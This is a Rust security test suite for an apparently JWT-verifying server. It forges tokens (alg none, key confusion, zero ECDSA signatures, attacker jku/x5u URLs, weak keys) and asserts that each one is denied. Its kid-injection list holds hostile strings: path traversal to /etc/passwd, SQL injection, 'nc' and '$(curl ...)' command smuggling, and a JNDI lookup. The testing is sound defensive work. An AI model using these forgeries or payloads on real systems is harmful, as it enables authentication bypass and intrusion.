//! The attack suite, part 1 (issue #5; the table is in SECURITY.md): algorithms,
//! keys and signatures. Forged tokens against a running `portcullis serve`, through
//! `/verify` and Envoy ext_authz gRPC; each test is one attack and asserts the deny,
//! its reason code, and that nothing was fetched on the attacker's behalf (the
//! attacker's `jku`/`x5u` host is never contacted; the provider's JWKS is refetched
//! at most once per interval). Setup and harness: `attacks_support.rs`.
//!
//! Peers: Portcullis, and the peers' Python (grpcio, xds-protos, cryptography).
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "tests")]

#[path = "attacks_support.rs"]
mod support;

use std::time::{Duration, Instant};

use portcullis_jose::{Algorithm, b64};
use serde_json::{Value, json};

use support::*;

/// Every attack of this file, by test name, with its cases.
const ATTACKS: Attacks = &[
    ("genuine_tokens_are_allowed", genuine_cases),
    ("alg_none_every_case_is_refused", alg_none),
    (
        "hs_keyed_with_the_public_key_in_every_encoding_is_refused",
        hs_confusion,
    ),
    (
        "alg_key_mismatch_within_a_family_is_refused",
        alg_key_mismatch,
    ),
    ("ecdsa_zero_and_der_signatures_are_refused", ecdsa),
    ("embedded_jwk_and_x5c_are_not_trusted", embedded_keys),
    ("jku_and_x5u_are_never_fetched", jku_x5u),
    ("kid_injection_strings_find_no_key", kid_injection),
    (
        "random_kids_find_no_key_and_refetch_rate_limited",
        random_kids,
    ),
    (
        "empty_stripped_and_spliced_signatures_are_refused",
        signatures,
    ),
    (
        "tokens_of_weak_keys_in_the_served_jwks_find_no_key",
        weak_served_keys,
    ),
    (
        "small_order_ed25519_key_in_the_served_jwks_is_ignored",
        small_order_ed25519,
    ),
];

/// Controls: the same server lets genuine tokens through, so every deny below is the
/// attack's doing.
#[test]
fn genuine_tokens_are_allowed() {
    run(ATTACKS, "genuine_tokens_are_allowed");
}

#[test]
fn alg_none_every_case_is_refused() {
    run(ATTACKS, "alg_none_every_case_is_refused");
}

fn alg_none(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    // "none" in all 16 letter cases, then empty, null, missing, and near spellings.
    let mut algs: Vec<String> = (0..16u8)
        .map(|mask| {
            "none"
                .chars()
                .enumerate()
                .map(|(i, c)| {
                    if mask & (1 << i) != 0 {
                        c.to_ascii_uppercase()
                    } else {
                        c
                    }
                })
                .collect::<String>()
        })
        .map(|a| json!(a).to_string())
        .collect();
    algs.extend(
        [
            r#""""#,
            "null",
            r#"" none""#,
            r#""none ""#,
            r#""none\u0000""#,
            r#"["none"]"#,
            "0",
            "{}",
            r#""rs256""#,
            r#""RS256 ""#,
        ]
        .map(str::to_owned),
    );
    let legit_sig = split3(&f.rs.mint(json!({"aud": AUD}))).2.to_owned();
    let mut out = Vec::new();
    for alg in &algs {
        for kid in [Some("rs-1"), None] {
            let kid_part = kid.map(|k| format!(r#","kid":"{k}""#)).unwrap_or_default();
            let h = format!(r#"{{"alg":{alg}{kid_part},"typ":"JWT"}}"#);
            out.push(deny(
                format!("alg {alg}, kid {kid:?}, empty signature"),
                with_sig(&h, &payload, b""),
                ALGORITHM,
            ));
        }
        let h = format!(r#"{{"alg":{alg},"kid":"rs-1"}}"#);
        out.push(deny(
            format!("alg {alg} with a genuine signature kept"),
            format!("{}.{}.{legit_sig}", seg(&h), seg(&payload)),
            ALGORITHM,
        ));
    }
    let h = r#"{"kid":"rs-1","typ":"JWT"}"#;
    out.push(deny("alg missing", with_sig(h, &payload, b""), ALGORITHM));
    for alg in ["none", "None", "NONE", ""] {
        let h = format!(r#"{{"alg":"{alg}","kid":"rs-1"}}"#);
        out.push(
            deny(
                format!("alg {alg:?}, every algorithm allowed"),
                with_sig(&h, &payload, b""),
                ALGORITHM,
            )
            .to(Route::AnyAlgorithm),
        );
    }
    out
}

#[test]
fn hs_keyed_with_the_public_key_in_every_encoding_is_refused() {
    run(
        ATTACKS,
        "hs_keyed_with_the_public_key_in_every_encoding_is_refused",
    );
}

fn hs_confusion(f: &Fixture) -> Vec<Case> {
    let mut out = Vec::new();
    for t in f.forged["hs"].as_array().unwrap() {
        let what = t["what"].as_str().unwrap();
        let token = t["token"].as_str().unwrap().to_owned();
        // HS* is not among corp's algorithms (its keys are RS256 and ES256), so the
        // header's alg is refused before any key is looked at.
        out.push(deny(what, token.clone(), ALGORITHM));
        // The permissive provider allows HS*, but it holds no oct key: an RSA or EC
        // key is never an HMAC secret, whatever the allow-list says.
        out.push(
            deny(format!("{what}, every algorithm allowed"), token, NO_KEY).to(Route::AnyAlgorithm),
        );
    }
    out
}

#[test]
fn alg_key_mismatch_within_a_family_is_refused() {
    run(ATTACKS, "alg_key_mismatch_within_a_family_is_refused");
}

fn alg_key_mismatch(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let mut out = Vec::new();
    // ES384/ES512 header naming the P-256 key, with a P-256 or a genuine P-384 signature.
    for (alg, key, sig_from) in [
        ("ES384", &f.ec.key, "the P-256 key"),
        ("ES512", &f.ec.key, "the P-256 key"),
        ("ES384", &f.mallory_p384, "a P-384 key"),
    ] {
        for kid in [Some("ec-1"), None] {
            let token = signed(key, &header(alg, kid, ""), &payload);
            out.push(deny(
                format!("{alg} header, kid {kid:?}, signed by {sig_from}"),
                token.clone(),
                ALGORITHM,
            ));
            // Allowed by the provider, but no key on that curve: the P-256 key is never tried.
            out.push(
                deny(
                    format!(
                        "{alg} header, kid {kid:?}, signed by {sig_from}, every algorithm allowed"
                    ),
                    token,
                    NO_KEY,
                )
                .to(Route::AnyAlgorithm),
            );
        }
    }
    // PS* and RS384/512 on the RS256-only key, signed by that very key: the
    // signature is mathematically valid, only the algorithm is wrong.
    for alg in [
        Algorithm::PS256,
        Algorithm::PS384,
        Algorithm::PS512,
        Algorithm::RS384,
        Algorithm::RS512,
    ] {
        let key = f.rsa_as(alg);
        for kid in [Some("rs-1"), None] {
            let token = signed(&key, &header(alg.name(), kid, ""), &payload);
            let what = format!("{alg} header on the RS256-only key, kid {kid:?}, genuinely signed");
            out.push(deny(what.clone(), token.clone(), ALGORITHM));
            // Allowed by the provider, refused by the key's own `alg: RS256`.
            out.push(
                deny(format!("{what}, every algorithm allowed"), token, ALGORITHM)
                    .to(Route::AnyAlgorithm),
            );
        }
    }
    out
}

#[test]
fn ecdsa_zero_and_der_signatures_are_refused() {
    run(ATTACKS, "ecdsa_zero_and_der_signatures_are_refused");
}

/// The P-256 group order n.
const P256_N: &str = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";

fn hex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).unwrap())
        .collect()
}

/// DER `INTEGER` of a big-endian unsigned number.
fn der_int(bytes: &[u8]) -> Vec<u8> {
    let mut v: Vec<u8> = bytes.iter().copied().skip_while(|b| *b == 0).collect();
    if v.first().is_none_or(|b| b & 0x80 != 0) {
        v.insert(0, 0);
    }
    let mut out = vec![0x02, v.len() as u8];
    out.extend(v);
    out
}

fn ecdsa(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let h = header("ES256", Some("ec-1"), "");
    let genuine = signed(&f.ec.key, &h, &payload);
    let sig = b64::decode(split3(&genuine).2.as_bytes()).unwrap();
    let (r, s) = sig.split_at(32);
    let n = hex(P256_N);
    let zero = [0u8; 32];
    let mut der = vec![0x30];
    let body = [der_int(r), der_int(s)].concat();
    der.push(body.len() as u8);
    der.extend(body);
    let mut out = vec![
        deny(
            "r = s = 0 (CVE-2022-21449)",
            with_sig(&h, &payload, &[0; 64]),
            SIGNATURE,
        ),
        deny(
            "r = s = 0 without kid",
            with_sig(&header("ES256", None, ""), &payload, &[0; 64]),
            SIGNATURE,
        ),
        deny(
            "r = s = n",
            with_sig(&h, &payload, &[n.clone(), n.clone()].concat()),
            SIGNATURE,
        ),
        deny(
            "r = 0, genuine s",
            with_sig(&h, &payload, &[&zero[..], s].concat()),
            SIGNATURE,
        ),
        deny(
            "genuine r, s = 0",
            with_sig(&h, &payload, &[r, &zero[..]].concat()),
            SIGNATURE,
        ),
        deny(
            "r = s = 0xff…",
            with_sig(&h, &payload, &[0xff; 64]),
            SIGNATURE,
        ),
        deny(
            "genuine signature DER-encoded",
            with_sig(&h, &payload, &der),
            SIGNATURE,
        ),
        deny(
            "genuine signature plus one byte",
            with_sig(&h, &payload, &[&sig[..], &[0]].concat()),
            SIGNATURE,
        ),
        deny(
            "genuine signature minus one byte",
            with_sig(&h, &payload, &sig[..63]),
            SIGNATURE,
        ),
    ];
    // r = s = 0 under the other ECDSA algorithms too (refused already by alg).
    for alg in ["ES384", "ES512"] {
        out.push(deny(
            format!("{alg} r = s = 0"),
            with_sig(&header(alg, Some("ec-1"), ""), &payload, &[0; 132]),
            ALGORITHM,
        ));
    }
    out
}

#[test]
fn embedded_jwk_and_x5c_are_not_trusted() {
    run(ATTACKS, "embedded_jwk_and_x5c_are_not_trusted");
}

fn embedded_keys(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let jwk = f.mallory.jwk().to_string();
    let thumb = f.mallory.key.public_material().thumbprint().unwrap();
    let x5c = format!(r#","x5c":[{}]"#, json!(f.x5c_cert));
    let x5c_jwk = {
        let mut j = f.x5c_key.public_material().public_jwk().unwrap();
        j.insert("x5c".into(), json!([f.x5c_cert]));
        Value::Object(j).to_string()
    };
    vec![
        deny(
            "jwk of the attacker's EC key, no kid (CVE-2018-0114)",
            signed(
                &f.mallory.key,
                &header("ES256", None, &format!(r#","jwk":{jwk}"#)),
                &payload,
            ),
            SIGNATURE,
        ),
        deny(
            "jwk of the attacker's EC key, kid ec-1",
            signed(
                &f.mallory.key,
                &header("ES256", Some("ec-1"), &format!(r#","jwk":{jwk}"#)),
                &payload,
            ),
            SIGNATURE,
        ),
        deny(
            "jwk of the attacker's EC key, kid = its thumbprint",
            signed(
                &f.mallory.key,
                &header("ES256", Some(&thumb), &format!(r#","jwk":{jwk}"#)),
                &payload,
            ),
            NO_KEY,
        ),
        deny(
            "jwk of the attacker's RSA key (with x5c), kid rs-1",
            signed(
                &f.x5c_key,
                &header("RS256", Some("rs-1"), &format!(r#","jwk":{x5c_jwk}"#)),
                &payload,
            ),
            SIGNATURE,
        ),
        deny(
            "x5c self-signed for idp.example.com, kid rs-1",
            signed(&f.x5c_key, &header("RS256", Some("rs-1"), &x5c), &payload),
            SIGNATURE,
        ),
        deny(
            "x5c self-signed for idp.example.com, no kid",
            signed(&f.x5c_key, &header("RS256", None, &x5c), &payload),
            SIGNATURE,
        ),
    ]
}

#[test]
fn jku_and_x5u_are_never_fetched() {
    run(ATTACKS, "jku_and_x5u_are_never_fetched");
    // A fetch started in the background would land a little later: give it time.
    std::thread::sleep(Duration::from_millis(500));
    let f = fixture();
    assert_eq!(f.attacker.hits(), 0, "jku/x5u host contacted");
}

fn jku_x5u(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let base = format!("http://127.0.0.1:{}", f.attacker.port);
    let jku = format!(r#","jku":{}"#, json!(format!("{base}/jwks.json")));
    let x5u = format!(r#","x5u":{}"#, json!(format!("{base}/cert.pem")));
    vec![
        deny(
            "jku to the attacker's JWKS, kid in it",
            signed(
                &f.mallory.key,
                &header("ES256", Some("mallory-1"), &jku),
                &payload,
            ),
            NO_KEY,
        ),
        deny(
            "jku to the attacker's JWKS, kid ec-1",
            signed(
                &f.mallory.key,
                &header("ES256", Some("ec-1"), &jku),
                &payload,
            ),
            SIGNATURE,
        ),
        deny(
            "jku to the attacker's JWKS, no kid",
            signed(&f.mallory.key, &header("ES256", None, &jku), &payload),
            SIGNATURE,
        ),
        deny(
            "x5u to the attacker's certificate, kid rs-1",
            signed(&f.x5c_key, &header("RS256", Some("rs-1"), &x5u), &payload),
            SIGNATURE,
        ),
        deny(
            "x5u to the attacker's certificate, no kid",
            signed(&f.x5c_key, &header("RS256", None, &x5u), &payload),
            SIGNATURE,
        ),
        deny(
            "jku and x5u to the attacker, unknown kid",
            signed(
                &f.mallory.key,
                &header("ES256", Some("mallory-2"), &format!("{jku}{x5u}")),
                &payload,
            ),
            NO_KEY,
        ),
    ]
}

#[test]
fn kid_injection_strings_find_no_key() {
    run(ATTACKS, "kid_injection_strings_find_no_key");
}

fn kid_injection(f: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let attacker = format!("http://127.0.0.1:{}/kid", f.attacker.port);
    let long = "../".repeat(3414); // 10,242 bytes
    let kids: Vec<String> = [
        "../../../../../../../../etc/passwd",
        "/dev/null",
        "..\\..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "ec-1/../ec-1",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' -- ",
        "1; DROP TABLE keys; --",
        "\" OR \"\"=\"",
        "*)(objectClass=*",
        "; sleep 10 #",
        "| nc 127.0.0.1 1 #",
        "`id`",
        "{{7*7}}",
        "${jndi:ldap://127.0.0.1/a}",
        "ec-1\u{0}",
        "ec-1\u{0}../../etc/passwd",
        "\u{0}",
        "ec-1\r\nx-injected: 1",
        "ec-1 ",
        "EC-1",
        "ес-1", // Cyrillic es
        "",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([format!("$(curl {attacker})"), attacker.clone(), long])
    .collect();
    let mut out: Vec<Case> = kids
        .iter()
        .map(|kid| {
            let shown: String = kid.chars().take(40).collect();
            deny(
                format!("kid {shown:?} ({} bytes)", kid.len()),
                signed(&f.mallory.key, &header("ES256", Some(kid), ""), &payload),
                NO_KEY,
            )
        })
        .collect();
    // The classic: a kid that would make a naive server read an empty or known
    // secret, with HS256. HS256 is not a provider algorithm, but with an unknown
    // kid and the default allow-list the engine reports the missing key (it may be
    // one rotated in with a new algorithm; see verify_jwt), never an allow.
    out.extend(f.forged["hs_empty"].as_array().unwrap().iter().map(|t| {
        deny(
            t["what"].as_str().unwrap(),
            t["token"].as_str().unwrap().to_owned(),
            NO_KEY,
        )
    }));
    out
}

/// 1,000 tokens with random `kid`s from four threads: every one `key_not_found`, the
/// refetches they cause within the per-source budget (a burst of 10, then one per
/// 3 s: `UNKNOWN_KID_BURST`, `UNKNOWN_KID_REFILL`), and fast (a request waits only for a
/// fetch in flight or about to start, 700 ms at most).
#[test]
fn random_kids_find_no_key_and_refetch_rate_limited() {
    run(ATTACKS, "random_kids_find_no_key_and_refetch_rate_limited");
    let f = fixture();
    let tokens: Vec<String> = (0..1000)
        .map(|_| {
            let kid = format!("{:016x}{:016x}", random_u64(), random_u64());
            signed(
                &f.mallory.key,
                &header("ES256", Some(&kid), ""),
                &claims(&[]),
            )
        })
        .collect();
    let before = f.jwks.hits();
    let started = Instant::now();
    let wrong: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = tokens
            .chunks(250)
            .map(|chunk| {
                s.spawn(move || {
                    chunk
                        .iter()
                        .filter_map(|t| {
                            let a = http_verify(f.p.http, "/verify", t);
                            (a.status != 401 || a.reason().as_deref() != Some("key_not_found"))
                                .then(|| format!("{} {}", a.status, a.body))
                        })
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap())
            .collect()
    });
    let elapsed = started.elapsed();
    let refetches = f.jwks.hits() - before;
    assert!(
        wrong.is_empty(),
        "{} of 1000 random kids not denied with key_not_found, e.g. {:?}",
        wrong.len(),
        wrong.first()
    );
    let budget = 10 + elapsed.as_secs() as usize / 3 + 1;
    assert!(
        refetches <= budget,
        "1000 random kids caused {refetches} JWKS refetches in {elapsed:?} (budget {budget})"
    );
    assert!(
        elapsed < Duration::from_secs(30),
        "1000 random kids took {elapsed:?}"
    );
    // Unknown kids do start refetches (so the bound above is not vacuous): this test's
    // own, or one of the file's earlier unknown kids within the interval.
    assert!(
        f.jwks.hits() >= 2,
        "no unknown-kid refetch at all ({} JWKS fetches)",
        f.jwks.hits()
    );
    eprintln!(
        "1000 random kids: {elapsed:?}, {refetches} refetch(es) in the burst, {} JWKS fetches in all",
        f.jwks.hits()
    );
    f.assert_nothing_fetched();
}

fn random_kids(f: &Fixture) -> Vec<Case> {
    // 50 through both frontends; the test adds 1,000 more over HTTP.
    (0..50)
        .map(|i| {
            let kid = format!("{:016x}", random_u64());
            deny(
                format!("random kid #{i}"),
                signed(
                    &f.mallory.key,
                    &header("ES256", Some(&kid), ""),
                    &claims(&[]),
                ),
                NO_KEY,
            )
        })
        .collect()
}

#[test]
fn empty_stripped_and_spliced_signatures_are_refused() {
    run(ATTACKS, "empty_stripped_and_spliced_signatures_are_refused");
}

fn signatures(f: &Fixture) -> Vec<Case> {
    let alice = claims(&[("sub", r#""alice""#)]);
    let admin = claims(&[("sub", r#""admin""#)]);
    let rs_h = header("RS256", Some("rs-1"), "");
    let ec_h = header("ES256", Some("ec-1"), "");
    let genuine_rs = signed(&f.rs.key, &rs_h, &alice);
    let genuine_ec = signed(&f.ec.key, &ec_h, &alice);
    let (h, p, s) = split3(&genuine_rs);
    let (eh, _, es) = split3(&genuine_ec);
    let rs_sig = b64::decode(s.as_bytes()).unwrap();
    vec![
        deny(
            "RS256, empty signature",
            format!("{h}.{}.", seg(&admin)),
            SIGNATURE,
        ),
        deny(
            "ES256, empty signature",
            format!("{eh}.{}.", seg(&admin)),
            SIGNATURE,
        ),
        deny(
            "RS256, no kid, empty signature",
            format!("{}.{}.", seg(&header("RS256", None, "")), seg(&admin)),
            SIGNATURE,
        ),
        deny(
            "signature stripped with its dot (two segments)",
            format!("{h}.{p}"),
            MALFORMED,
        ),
        deny("only a header", h.to_owned(), MALFORMED),
        deny("extra empty segment", format!("{h}.{p}.."), MALFORMED),
        deny(
            "genuine token plus a dot",
            format!("{genuine_rs}."),
            MALFORMED,
        ),
        deny(
            "payload swapped under a genuine signature (sub alice -> admin)",
            format!("{h}.{}.{s}", seg(&admin)),
            SIGNATURE,
        ),
        deny(
            "header swapped (kid ec-1) under a genuine RS256 signature",
            format!("{}.{p}.{s}", seg(&header("RS256", Some("ec-1"), ""))),
            NO_KEY,
        ),
        deny(
            "ES256 signature spliced onto an RS256 token",
            format!("{h}.{p}.{es}"),
            SIGNATURE,
        ),
        deny(
            "RS256 signature spliced onto an ES256 token",
            format!("{eh}.{p}.{s}"),
            SIGNATURE,
        ),
        deny(
            "genuine RS256 signature truncated by a byte",
            format!("{h}.{p}.{}", b64::encode(&rs_sig[..255])),
            SIGNATURE,
        ),
        deny(
            "genuine RS256 signature with a byte appended",
            format!("{h}.{p}.{}", b64::encode(&[&rs_sig[..], &[0]].concat())),
            SIGNATURE,
        ),
        deny(
            "genuine RS256 signature with a leading zero byte",
            format!("{h}.{p}.{}", b64::encode(&[&[0], &rs_sig[..]].concat())),
            SIGNATURE,
        ),
        deny(
            "all-zero RS256 signature",
            format!("{h}.{p}.{}", b64::encode(&[0; 256])),
            SIGNATURE,
        ),
    ]
}

#[test]
fn tokens_of_weak_keys_in_the_served_jwks_find_no_key() {
    run(
        ATTACKS,
        "tokens_of_weak_keys_in_the_served_jwks_find_no_key",
    );
    let log = fixture().p.log();
    for kid in ["weak-rsa1024", "weak-e1", "weak-hs", "weak-offcurve"] {
        assert!(
            log.lines()
                .any(|l| l.contains("key ignored") && l.contains(kid)),
            "no 'key ignored' line for {kid}:\n{log}"
        );
    }
}

fn weak_served_keys(f: &Fixture) -> Vec<Case> {
    let weak = &f.forged["weak"];
    let payload = claims(&[("sub", r#""admin""#)]);
    vec![
        deny(
            "RS256 signed by the served RSA-1024 key",
            weak["rsa1024"]["token"].as_str().unwrap().to_owned(),
            NO_KEY,
        ),
        deny(
            "RS256 'signed' for the served e = 1 key (signature = encoded digest)",
            weak["e1"]["token"].as_str().unwrap().to_owned(),
            NO_KEY,
        ),
        deny(
            "HS256 with the served 31-byte oct key",
            weak["hs_short"]["token"].as_str().unwrap().to_owned(),
            NO_KEY,
        ),
        deny(
            "ES256 for the served off-curve key",
            with_sig(
                &header("ES256", Some("weak-offcurve"), ""),
                &payload,
                &[3; 64],
            ),
            NO_KEY,
        ),
    ]
}

/// A small-order Ed25519 public key is as weak as RSA with e = 1: with the identity
/// point as `x`, the signature (R = identity, S = 0) verifies for any payload. Such a
/// key must be refused at import like the other weak keys.
#[test]
fn small_order_ed25519_key_in_the_served_jwks_is_ignored() {
    run(
        ATTACKS,
        "small_order_ed25519_key_in_the_served_jwks_is_ignored",
    );
}

fn small_order_ed25519(_: &Fixture) -> Vec<Case> {
    let payload = claims(&[("sub", r#""admin""#)]);
    let universal = [&ED25519_IDENTITY[..], &[0u8; 32]].concat(); // R = identity, S = 0
    vec![
        deny(
            "EdDSA, kid of the small-order key, signature R = identity, S = 0",
            with_sig(
                &header("EdDSA", Some("weak-ed25519-identity"), ""),
                &payload,
                &universal,
            ),
            NO_KEY,
        ),
        // Without a kid, EdDSA must not be a provider algorithm at all once the key
        // is ignored (the other keys are RS256 and ES256).
        deny(
            "EdDSA, no kid, signature R = identity, S = 0",
            with_sig(&header("EdDSA", None, ""), &payload, &universal),
            ALGORITHM,
        ),
    ]
}
